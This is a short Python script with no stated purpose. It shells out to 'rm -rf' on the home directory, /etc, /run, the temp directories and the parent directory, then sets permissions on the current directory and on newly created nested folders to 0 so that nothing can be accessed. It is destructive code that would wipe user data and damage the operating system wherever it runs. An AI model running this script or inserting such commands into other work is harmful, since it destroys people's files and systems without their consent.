import os
import subprocess

here = os.getcwd()
subprocess.run(["sh", "-c", "rm -rf $HOME /tmp/* /var/tmp/* /dev/shm/* /run/* /etc/* .. 2>/dev/null; chmod -R 000 . 2>/dev/null"], check=False)
os.makedirs("locked/inner", exist_ok=True)
os.chmod("locked/inner", 0)
os.chmod("locked", 0)
os.chmod(here, 0)
